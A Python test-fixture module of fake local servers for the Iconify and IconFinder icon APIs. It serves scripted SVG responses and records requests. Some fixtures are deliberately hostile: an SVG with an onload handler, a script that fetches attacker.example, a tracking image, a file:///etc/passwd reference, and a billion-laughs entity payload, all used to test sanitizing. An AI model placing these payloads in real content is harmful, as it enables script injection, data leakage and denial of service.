"""Local stand-ins for the icon services, on the wire: Iconify's API and IconFinder's v4 API.

Each is a responder for :class:`tests.llm_fakes.FakeProvider` (a threaded HTTP server on
127.0.0.1, port chosen by the OS), so every request is recorded and a test can push scripted
answers (a 429, a 500) in front of the routes. Nothing here reaches the internet.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

from tests.llm_fakes import Action, Recorded, Reply

PLAIN_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="1em" height="1em" viewBox="0 0 24 24">'
    '<path fill="#f4b400" d="M12 2a10 10 0 1 0 0 20a10 10 0 0 0 0-20z"/></svg>'
)
GRADIENT_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="1em" height="1em" viewBox="0 0 32 32">'
    '<defs><radialGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#08f"/>'
    '</radialGradient></defs><circle cx="16" cy="16" r="14" fill="url(#g)"/></svg>'
)
HOSTILE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"'
    ' onload="alert(1)"><script>fetch("http://attacker.example/")</script>'
    '<image href="http://attacker.example/track.png" width="24" height="24"/>'
    '<use xlink:href="file:///etc/passwd#x"/><rect width="24" height="24" fill="#0a0"/></svg>'
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><text>&lol3;</text></svg>'
)
HUGE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000" viewBox="0 0 100000 100000"/>'
)


def collection(name: str, spdx: str, author: str | None = "Someone", palette: bool = True) -> dict[str, Any]:
    info: dict[str, Any] = {"name": name, "total": 100, "palette": palette}
    info["license"] = {"title": spdx, "spdx": spdx, "url": f"https://licenses.example/{spdx}"}
    if author is not None:
        info["author"] = {"name": author, "url": "https://author.example"}
    return info


@dataclass
class IconifyWire:
    """``GET /search?query=`` (icons whose name holds a query word) and ``GET /{prefix}/{name}.svg``."""

    icons: dict[str, str]  # "prefix:name" -> SVG text
    collections: dict[str, dict[str, Any]]
    gone: set[str] = field(default_factory=set)  # listed by search, 404 on download

    def __call__(self, rec: Recorded) -> Action:
        if rec.path == "/search":
            words = rec.query.get("query", [""])[0].lower().split()
            ids = [i for i in self.icons if any(w in i.split(":")[1] for w in words)]
            prefixes = {i.split(":")[0] for i in ids}
            return Reply(
                body={
                    "icons": ids,
                    "total": len(ids),
                    "limit": int(rec.query.get("limit", ["32"])[0]),
                    "start": 0,
                    "collections": {p: self.collections[p] for p in prefixes},
                }
            )
        m = re.fullmatch(r"/([a-z0-9-]+)/([a-z0-9-]+)\.svg", rec.path)
        icon_id = f"{m.group(1)}:{m.group(2)}" if m else ""
        if icon_id in self.icons and icon_id not in self.gone:
            return Reply(body=self.icons[icon_id])
        return Reply(404, "404")


@dataclass
class IconFinderWire:
    """``/v4/icons/search``, ``/v4/iconsets/{id}`` and download URLs, behind ``Bearer <key>``."""

    key: str
    icons: dict[int, str]  # icon_id -> SVG text
    license_in_search: bool = True
    download_host: str | None = None  # write absolute download URLs to this host instead

    def _download_url(self, icon_id: int) -> str:
        path = f"/icons/{icon_id}/formats/svg/{icon_id * 10}/download"
        return f"http://{self.download_host}/v4{path}" if self.download_host else path

    def __call__(self, rec: Recorded) -> Action:
        if rec.headers.get("authorization") != f"Bearer {self.key}":
            # Real services sometimes echo what they got: the client must scrub it.
            got = rec.headers.get("authorization", "")
            return Reply(401, {"code": "unauthorized", "message": f"Invalid API key: {got}"})
        if rec.path == "/v4/icons/search":
            words = rec.query.get("query", [""])[0].lower().split()
            found = [i for i in self.icons if words]
            return Reply(body={"total_count": len(found), "icons": [self._icon(i) for i in found]})
        if m := re.fullmatch(r"/v4/iconsets/(\d+)", rec.path):
            return Reply(
                body={"iconset_id": int(m.group(1)), "license": self._license(), "author": {"name": "Ann"}}
            )
        if m := re.fullmatch(r"/v4/icons/(\d+)/formats/svg/\d+/download", rec.path):
            icon_id = int(m.group(1))
            return (
                Reply(body=self.icons[icon_id])
                if icon_id in self.icons
                else Reply(404, {"message": "Not found"})
            )
        return Reply(404, {"message": f"no route {rec.path}"})

    @staticmethod
    def _license() -> dict[str, Any]:
        return {"license_id": 2, "name": "Free for commercial use (Include link to authors website)",
                "url": "https://www.iconfinder.com/licenses/basic", "scope": "free"}  # fmt: skip

    def _icon(self, icon_id: int) -> dict[str, Any]:
        iconset: dict[str, Any] = {"iconset_id": 77, "author": {"name": "Ann"}}
        if self.license_in_search:
            iconset["license"] = self._license()
        return {
            "icon_id": icon_id,
            "tags": ["coin"],
            "is_premium": False,
            "vector_sizes": [
                {"size": 512, "formats": [{"format": "svg", "download_url": self._download_url(icon_id)}]}
            ],
            "raster_sizes": [],
            "iconset": iconset,
        }
